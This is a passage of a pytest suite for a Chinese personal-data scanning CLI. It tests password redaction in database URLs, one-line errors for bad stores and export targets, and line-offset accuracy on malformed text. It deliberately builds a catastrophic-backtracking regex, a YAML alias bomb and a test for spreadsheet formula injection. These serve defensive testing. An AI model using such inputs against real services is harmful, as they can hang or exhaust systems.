    SourceCase("pg-unresolvable-host", ["scan", f"postgresql://u:{SECRET}@no-such-host.invalid:5432/db"],
               ["no-such-host.invalid"]),
    SourceCase("pg-nonexistent-database", ["scan", f"postgresql://postgres:{SECRET}@127.0.0.1:5432/shuan_no_such_db"],
               ["shuan_no_such_db"]),
    SourceCase("pg-bad-sslmode", ["scan", f"postgresql://nobody:{SECRET}@127.0.0.1:5432/test?sslmode=bogus"],
               ["127.0.0.1"]),
    SourceCase("pg-non-numeric-port", ["scan", f"postgresql://u:{SECRET}@127.0.0.1:notaport/db"], ["127.0.0.1"]),
    SourceCase("pg-password-with-slash", ["scan", f"postgresql://u:ab/{SECRET}@127.0.0.1:1/db"], ["127.0.0.1"]),
    SourceCase("pg-password-with-at", ["scan", f"postgresql://u:ab@{SECRET}@127.0.0.1:1/db"], ["127.0.0.1"]),
    SourceCase("pg-password-percent-encoded", ["scan", "postgresql://u:S3cret%2FPW%40x@127.0.0.1:1/db"], ["127.0.0.1"]),
    SourceCase("pg-unknown-driver", ["scan", f"postgresql+nosuchdriver://u:{SECRET}@127.0.0.1/db"], ["nosuchdriver"]),
    SourceCase("pg-empty-url", ["scan", "postgresql://"], ["postgresql://"], expect="fail-or-run"),
    SourceCase("mysql-bad-credentials", ["scan", f"mysql+pymysql://root:{SECRET}@127.0.0.1:3306/nosuchdb"],
               ["mysql+pymysql://root:***@127.0.0.1:3306/nosuchdb"]),
    SourceCase("mysql-wrong-port", ["scan", f"mysql+pymysql://root:{SECRET}@127.0.0.1:1/x"], ["127.0.0.1:1"]),
    SourceCase("mysql-unknown-charset", ["scan", f"mysql+pymysql://root:{SECRET}@127.0.0.1:3306/test?charset=nosuch"],
               ["127.0.0.1"]),
    SourceCase("mysql-nonexistent-database", ["scan", "mysql+pymysql://root@127.0.0.1:3306/shuan_no_such_db"],
               ["shuan_no_such_db"]),
    SourceCase("mysql-all-empty-url", ["scan", "mysql+pymysql://:@/"], [], expect="fail-or-run"),
    SourceCase("unknown-scheme-url", ["scan", "unknown://x"], ["unknown://x"]),
    SourceCase("unknown-scheme-url-with-password", ["scan", f"oracle://scott:{SECRET}@db/orcl"], ["oracle://"]),
    SourceCase("sqlite-url-missing", ["scan", "sqlite:////no/such/file.db"], ["/no/such/file.db"]),
    SourceCase("sqlite-url-memory", ["scan", "sqlite://"], ["sqlite://"]),
    # the store
    SourceCase("store-unreachable-pg", ["scan", "{tmp}/ok.csv"], ["127.0.0.1:1"],
               env={"SHUAN_DATABASE_URL": f"postgresql://shuan:{SECRET}@127.0.0.1:1/shuan"}),
    SourceCase("store-pg-bad-password", ["scan", "{tmp}/ok.csv"], ["nobody:***"],
               env={"SHUAN_DATABASE_URL": f"postgresql://nobody:{SECRET}@127.0.0.1:5432/test"}),
    SourceCase("store-mysql-bad-password", ["scan", "{tmp}/ok.csv"], ["root:***"],
               env={"SHUAN_DATABASE_URL": f"mysql+pymysql://root:{SECRET}@127.0.0.1:3306/nosuchdb"}),
    SourceCase("store-garbage-url", ["scan", "{tmp}/ok.csv"], [], env={"SHUAN_DATABASE_URL": "not a url at all"}),
    SourceCase("store-unknown-backend", ["scan", "{tmp}/ok.csv"], [],
               env={"SHUAN_DATABASE_URL": f"nosuchdb://u:{SECRET}@h/x"}),
    SourceCase("store-file-is-garbage", ["scan", "{tmp}/ok.csv"], ["garbage.db"],
               env={"SHUAN_DATABASE_URL": "sqlite:///{tmp}/garbage.db"}, setup=_write("garbage.db", os.urandom(4096))),
    SourceCase("store-path-under-a-file", ["scan", "{tmp}/ok.csv"], ["afile"],
               env={"SHUAN_DATABASE_URL": "sqlite:///{tmp}/afile/shuan.db"}, setup=_write("afile", "x")),
    SourceCase("store-path-is-directory", ["scan", "{tmp}/ok.csv"], ["adir"],
               env={"SHUAN_DATABASE_URL": "sqlite:///{tmp}/adir"}, setup=lambda t: (t / "adir").mkdir()),
    SourceCase("shuan-home-is-a-file", ["scan", "{tmp}/ok.csv"], ["homefile"], env={"SHUAN_HOME": "{tmp}/homefile"},
               setup=_write("homefile", "x")),
    # detect / export
    SourceCase("detect-directory", ["detect", "{tmp}"], ["{tmp}"]),
    SourceCase("detect-bad-recognizer", ["detect", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers: {not: a list}\n")),
    SourceCase("export-no-scan-yet", ["export", "{tmp}/out.xlsx"], ["还没有扫描记录"]),
]


def _sub(value: str, tmp: Path) -> str:
    return value.replace("{tmp}", str(tmp))


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", SOURCE_CASES, ids=lambda c: c.id)
def test_source_level_bad_input(capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_home: Path,
                                monkeypatch: pytest.MonkeyPatch, case: SourceCase) -> None:
    _w(tmp_path / "ok.csv", people_csv())
    if case.setup is not None:
        case.setup(tmp_path)
    for key, value in case.env.items():
        monkeypatch.setenv(key, _sub(value, tmp_path))
    if case.id == "empty-source-string":
        monkeypatch.chdir(tmp_path)  # "" must not silently mean "the current directory"
    res = run(capsys, *[_sub(a, tmp_path) for a in case.args])
    if case.expect == "fail-or-run" and res.code == 0:
        assert_clean(res)
        return
    assert_one_line_error(res, *[_sub(n, tmp_path) for n in case.needles], secrets=(SECRET, "S3cret%2FPW", "S3cret/PW"))
    assert_store_empty(isolated_home)
    assert not list(tmp_path.glob("out.*")) and not list(tmp_path.glob(".out.*"))


# ---------------------------------------------------------------------------- multi-table databases


def _server(url: str, what: str) -> sa.Engine:
    from tests.sources.conftest import require_server

    return require_server(url, what)


@pytest.fixture()
def pg_hostile_db() -> Iterator[str]:
    """A throw-away PostgreSQL database with odd table names, odd types and one view that fails to read."""
    from tests.sources.conftest import PG_URL, driver_url

    admin = _server(PG_URL, "PostgreSQL")
    name = f"shuan_adv_{uuid.uuid4().hex[:8]}"
    with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.exec_driver_sql(f'CREATE DATABASE "{name}"')
    url = driver_url(PG_URL).set(database=name)
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    rows = people(30)
    with engine.begin() as conn:
        conn.exec_driver_sql('CREATE SCHEMA "odd schema"')
        for table in ['"a""b"', '"select"', '"my table"', '"表 名"', '"odd schema"."Mixed.Case"']:
            conn.exec_driver_sql(f'CREATE TABLE {table} ("姓名" text, "from" text, photo bytea, tags text[], '
                                 f'doc jsonb, span interval, loc point, tsv tsvector, money_col money)')
            for r in rows:
                conn.execute(sa.text(f"INSERT INTO {table} VALUES (:n, :m, :b, ARRAY['x', :n], "
                                     f"CAST(:j AS jsonb), '1 day', point(1, 2), to_tsvector(:n), 12.5)"),
                             {"n": r[0], "m": r[2], "b": b"\x00\xff" + os.urandom(16), "j": json.dumps({"id": r[1]})})
        conn.exec_driver_sql("CREATE FUNCTION boom() RETURNS int LANGUAGE plpgsql VOLATILE AS "
                             "$$ BEGIN RAISE EXCEPTION 'boom: refusing to be read'; END $$")
        conn.exec_driver_sql("CREATE VIEW exploding AS SELECT boom() AS x")
        conn.exec_driver_sql('CREATE TABLE "empty table" (a text)')
    engine.dispose()
    try:
        yield url.set(password=SECRET).render_as_string(hide_password=False)
    finally:
        with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
            conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        admin.dispose()


@pytest.mark.timeout(60)
def test_postgres_multi_table_scan_continues_and_hides_password(capsys: pytest.CaptureFixture[str],
                                                                isolated_home: Path, pg_hostile_db: str) -> None:
    """Trust auth ignores the password in the URL, so the scan runs: the password must still appear nowhere."""
    res = run(capsys, "scan", pg_hostile_db, "--format", "json")
    assert_clean(res)
    assert res.code == 0, res.err
    doc = json.loads(res.out)
    tables = {t["name"] for t in doc["tables"]}
    errors = {e["table"]: e["error"] for e in doc["errors"]}
    assert {'a"b', "select", "my table", "表 名", "odd schema.Mixed.Case"} <= tables, (tables, errors)
    assert "exploding" in errors and "exploding" in errors["exploding"] and "\n" not in errors["exploding"]
    assert SECRET not in doc["source"] and "***" in doc["source"]
    assert_store_matches(isolated_home, doc)
    assert SECRET.encode() not in (isolated_home / "shuan.db").read_bytes()


@pytest.fixture()
def mysql_hostile_db() -> Iterator[str]:
    from tests.sources.conftest import MYSQL_URL, driver_url

    admin = _server(MYSQL_URL, "MariaDB")
    name = f"shuan_adv_{uuid.uuid4().hex[:8]}"
    rows = people(30)
    with admin.begin() as conn:
        conn.exec_driver_sql(f"CREATE DATABASE `{name}` CHARACTER SET utf8mb4")
        for table in ["`a\"b`", "`select`", "`my table`", "`表 名`"]:
            conn.exec_driver_sql(f"CREATE TABLE `{name}`.{table} (`姓名` text, `from` text, photo blob, "
                                 "flags set('a','b'), d date, z datetime)")
            for r in rows:
                conn.execute(sa.text(f"INSERT INTO `{name}`.{table} VALUES (:n, :m, :b, 'a,b', '2020-01-01', "
                                     "'2020-01-01 00:00:00')"), {"n": r[0], "m": r[2], "b": b"\x00\xff" * 8})
        conn.exec_driver_sql(f"CREATE TABLE `{name}`.gone (x int)")
        conn.exec_driver_sql(f"CREATE VIEW `{name}`.broken AS SELECT x FROM `{name}`.gone")
        conn.exec_driver_sql(f"DROP TABLE `{name}`.gone")
    try:
        yield driver_url(MYSQL_URL).set(database=name).render_as_string(hide_password=False)
    finally:
        with admin.begin() as conn:
            conn.exec_driver_sql(f"DROP DATABASE IF EXISTS `{name}`")
        admin.dispose()


@pytest.mark.timeout(60)
def test_mariadb_multi_table_scan_continues(capsys: pytest.CaptureFixture[str], isolated_home: Path,
                                            mysql_hostile_db: str) -> None:
    res = run(capsys, "scan", mysql_hostile_db, "--format", "json")
    assert_clean(res)
    assert res.code == 0, res.err
    doc = json.loads(res.out)
    tables = {t["name"] for t in doc["tables"]}
    errors = {e["table"]: e["error"] for e in doc["errors"]}
    assert {'a"b', "select", "my table", "表 名"} <= tables, (tables, errors)
    assert "broken" in errors and "broken" in errors["broken"] and "\n" not in errors["broken"]
    assert_store_matches(isolated_home, doc)


# ------------------------------------------------------------------------------ nothing half-written


def test_store_failure_mid_save_leaves_nothing(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                               isolated_home: Path) -> None:
    """A write that fails half-way (a trigger aborts on the first detection) rolls back the whole scan,
    and the export requested with -o is not written either."""
    src = _w(tmp_path / "p.csv", people_csv())
    assert run(capsys, "scan", str(src), "--no-save", "--format", "json").code == 0
    # create the schema, then sabotage it
    res = run(capsys, "export", str(tmp_path / "never.json"))
    assert res.code != 0
    with closing(sqlite3.connect(isolated_home / "shuan.db")) as conn:
        conn.execute("CREATE TRIGGER sabotage BEFORE INSERT ON detections BEGIN SELECT RAISE(ABORT, 'disk on fire'); END")
        conn.commit()
    res = run(capsys, "scan", str(src), "-o", str(tmp_path / "inv.xlsx"))
    line = assert_one_line_error(res)
    assert "disk on fire" in line or "清单库" in line
    assert_store_empty(isolated_home)
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith((".inv", "inv"))]


def test_store_with_unknown_migration_revision(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                               isolated_home: Path) -> None:
    """A store written by a newer shuan (unknown Alembic revision) must be a one-line store error."""
    src = _w(tmp_path / "p.csv", people_csv())
    assert run(capsys, "scan", str(src)).code == 0
    with closing(sqlite3.connect(isolated_home / "shuan.db")) as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'ffffffffffff'")
        conn.commit()
    res = run(capsys, "scan", str(src))
    assert_one_line_error(res, "shuan.db")
    assert store_counts(isolated_home)["scan_runs"] == 1


@dataclass(frozen=True)
class ExportCase:
    id: str
    target: str  # relative to tmp; {tmp} allowed
    setup: Callable[[Path], None] | None = None
    ok_if_complete: bool = False  # success is acceptable when it leaves a complete file
    needle: str | None = None  # what the error must name (default: the target's file name)


EXPORT_CASES = [
    ExportCase("parent-is-a-file", "afile/inv.xlsx", _write("afile", "x")),
    ExportCase("target-is-a-directory", "adir.json", lambda t: (t / "adir.json").mkdir()),
    ExportCase("name-too-long", "x" * 300 + ".csv"),
    ExportCase("nonexistent-parent", "no/such/dir/inv.csv", ok_if_complete=True),
    ExportCase("read-only-directory", "ro/inv.json", lambda t: ((t / "ro").mkdir(), (t / "ro").chmod(0o500))),
    ExportCase("unknown-format", "inv.docx", needle="docx"),
]


@pytest.mark.parametrize("case", EXPORT_CASES, ids=lambda c: c.id)
def test_export_to_bad_target_leaves_no_partial_file(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                     case: ExportCase) -> None:
    if case.id == "read-only-directory" and IS_ROOT:
        pytest.skip("running as root: directory permissions are not enforced")
    src = _w(tmp_path / "p.csv", people_csv())
    assert run(capsys, "scan", str(src)).code == 0
    if case.setup is not None:
        case.setup(tmp_path)
    target = Path(case.target) if case.target.startswith("/") else tmp_path / case.target
    before = {p for p in tmp_path.rglob("*")}
    res = run(capsys, "export", str(target))
    if case.ok_if_complete and res.code == 0:
        assert_clean(res)
        assert target.read_text(encoding="utf-8-sig").startswith("数据源")
        return
    assert_one_line_error(res, case.needle or target.name[:40])
    leftovers = [p.name for p in set(tmp_path.rglob("*")) - before]
    assert not leftovers, f"export left files behind: {leftovers}"


@pytest.mark.timeout(20)
def test_export_to_a_fifo_does_not_replace_it(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Exporting onto a FIFO (or /dev/stdout, a device…) must write through it or fail — never rename a regular
    file over it. (Run as root against /dev/full, the export replaced the device node.)"""
    src = _w(tmp_path / "p.csv", people_csv())
    assert run(capsys, "scan", str(src)).code == 0
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    got = bytearray()
    stop = threading.Event()

    def drain() -> None:
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        try:
            while not stop.is_set():
                try:
                    chunk = os.read(fd, 1 << 16)
                except BlockingIOError:
                    chunk = b""
                got.extend(chunk)
                if not chunk:
                    time.sleep(0.02)
        finally:
            os.close(fd)

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    time.sleep(0.1)
    try:
        res = run(capsys, "export", str(fifo))
    finally:
        time.sleep(0.2)
        stop.set()
        reader.join()
    assert_clean(res)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode), "the FIFO was replaced by a regular file"
    if res.code == 0:
        assert got.decode("utf-8-sig").startswith("数据源"), bytes(got[:80])
    else:
        assert_one_line_error(res, "pipe.csv")


def test_scan_output_to_bad_path_is_one_line_and_leaves_no_partial_file(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_home: Path) -> None:
    src = _w(tmp_path / "p.csv", people_csv())
    _w(tmp_path / "afile", "x")
    res = run(capsys, "scan", str(src), "-o", str(tmp_path / "afile" / "inv.xlsx"))
    assert_one_line_error(res, "inv.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "p.csv"]
    counts = store_counts(isolated_home)
    assert counts.get("scan_runs", 0) in (0, 1)
    if counts.get("scan_runs"):
        assert counts["table_assets"] == 1 and counts["column_assets"] == 3, counts


def test_export_xlsx_keeps_hostile_names_as_text(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Column names such as `=1+1` must be written as text, not turned into live formulas in the inventory."""
    from openpyxl import load_workbook

    folder = tmp_path / "src"
    folder.mkdir()
    mk_hostile_columns(folder)
    assert run(capsys, "scan", str(folder / "cols.csv")).code == 0
    target = tmp_path / "inv.xlsx"
    res = run(capsys, "export", str(target))
    assert_clean(res)
    assert res.code == 0
    wb = load_workbook(target)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [c.coordinate + "=" + str(c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"user-controlled text written as formulas: {formulas}"


# ----------------------------------------------------------------------------------- custom recognizers


CATASTROPHIC = "recognizers:\n  - {type: aaa_code, name: 灾难回溯, label: 灾难回溯, patterns: ['(a+)+$']}\n"


@pytest.mark.timeout(20)
def test_catastrophic_regex_does_not_hang_a_scan(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    rec = _w(tmp_path / "evil.yaml", CATASTROPHIC)
    rows = ["备注,联系电话"] + [f"{'a' * 40}!,{r[2]}" for r in people(50)]
    src = _w(tmp_path / "evil.csv", "\n".join(rows) + "\n")
    started = time.monotonic()
    res = run(capsys, "scan", str(src), "--recognizers", str(rec), "--format", "json", "--no-save")
    assert_clean(res)
    assert time.monotonic() - started < 10
    assert res.code == 0 or len(res.err.strip().splitlines()) == 1


@pytest.mark.timeout(8)
def test_catastrophic_regex_does_not_hang_detect(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    rec = _w(tmp_path / "evil.yaml", CATASTROPHIC)
    text = _w(tmp_path / "t.txt", "a" * 40 + "!\n联系电话13812345678\n")
    started = time.monotonic()
    res = run(capsys, "detect", str(text), "--recognizers", str(rec))
    assert_clean(res)
    assert time.monotonic() - started < 5
    assert res.code == 0 and len(res.out.splitlines()) == 2


@pytest.mark.timeout(8)
def test_recognizer_yaml_alias_bomb_is_rejected_quickly(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    levels = ["a: &a ['x','x','x','x','x','x','x','x','x','x']"]
    for i, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        levels.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]")
    bomb = "\n".join(levels) + "\nrecognizers:\n  - {type: bomb_t, name: 炸弹, label: 炸弹, patterns: *i}\n"
    rec = _w(tmp_path / "bomb.yaml", bomb)
    src = _w(tmp_path / "p.csv", people_csv())
    res = run(capsys, "scan", str(src), "--recognizers", str(rec), "--no-save")
    assert_one_line_error(res, "bomb.yaml")


# ----------------------------------------------------------------------------------------------- detect


def _lines_of(data: bytes) -> list[str]:
    if not data:
        return []
    parts = data.split(b"\n")
    if parts[-1] == b"":
        parts.pop()
    return [p.decode("utf-8", errors="replace").rstrip("\r") for p in parts]


ID0 = id_number(random.Random(1))

DETECT_CASES: dict[str, bytes] = {
    "emoji-astral": f"😀👨‍👩‍👧𝕏𠀀张伟手机13812345678身份证{ID0}🙂\n🙂🙂🙂 13912345678\n".encode(),
    "crlf": f"市民张伟来电\r\n手机13812345678\r\n\r\n身份证{ID0}\r\n".encode(),
    "invalid-utf8": b"\xff\xfe\xfd\xe4\xb8 13812345678 \xed\xa0\x80\xf0\x9f\x98 " + ID0.encode() + b"\n\xc3(\n",
    "empty-lines": b"\n\n\n13812345678\n\n",
    "only-newline": b"\n",
    "empty-input": b"",
    "no-trailing-newline": "第一行\n手机13812345678".encode(),
    "control-characters": f"\x00\x01\x1b[31m13812345678\x07\x0b\x0c\x1c\x1d\x1e\x85 张伟 \x7f{ID0}\x08\n".encode(),
    "unicode-line-separators": f"张伟\u2028手机13812345678\u2029\u0085身份证{ID0}\n下一行\n".encode(),
    "lone-carriage-returns": b"a\rb\r13812345678\r\r\n\r\rc\n",
    "bom-first-line": f"\ufeff13812345678\n{ID0}\n".encode(),
    "fullwidth-digits": "手机１３８１２３４５６７８，身份证".encode() + ID0.encode() + b"\n",
    "combining-marks": f"张\u0301伟 1\u03013812345678 e\u0301{ID0}\n".encode(),
    "1MB-line": ("甲乙丙丁戊己庚辛" * 65_536 + "联系电话13812345678 身份证" + ID0 + "\n").encode(),
    "many-lines-across-chunks": "".join(f"第{i}行 手机1381234{i:04d}\n" for i in range(4500)).encode(),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("via", ["file", "stdin"])
@pytest.mark.parametrize("case", list(DETECT_CASES), ids=str)
def test_detect_one_line_per_input_line_with_exact_offsets(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch, case: str,
                                                           via: str) -> None:
    data = DETECT_CASES[case]
    if via == "file":
        src = tmp_path / "input.txt"
        src.write_bytes(data)
        args = ["detect", str(src), "--format", "jsonl"]
    else:
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data), encoding="utf-8"))
        args = ["detect", "-", "--format", "jsonl"]
    res = run(capsys, *args)
    assert_clean(res)
    assert res.code == 0, res.err
    lines = _lines_of(data)
    out = res.out.split("\n")
    assert out[-1] == "", "output does not end with a newline"
    out.pop()
    assert len(out) == len(lines), f"{len(lines)} input lines but {len(out)} output lines"
    assert len(res.out.splitlines()) == len(lines), "output holds extra line breaks (U+2028/U+0085/…) unescaped"
    for i, (line, raw) in enumerate(zip(lines, out, strict=True)):
        obj = json.loads(raw)
        assert set(obj) == {"entities"}, obj
        for e in obj["entities"]:
            assert 0 <= e["start"] < e["end"] <= len(line), (i, e)
            assert line[e["start"] : e["end"]] == e["text"], (i, e, line[max(0, e["start"] - 5) : e["end"] + 5])
    if case == "many-lines-across-chunks":
        for i, raw in enumerate(out):
            assert [e["text"] for e in json.loads(raw)["entities"] if e["type"] == "cn_mobile"] == [f"1381234{i:04d}"]
    if case in ("emoji-astral", "crlf", "control-characters", "1MB-line"):
        found = {e["type"] for raw in out for e in json.loads(raw)["entities"]}
        assert "cn_mobile" in found, f"mobile number not found in {case}"
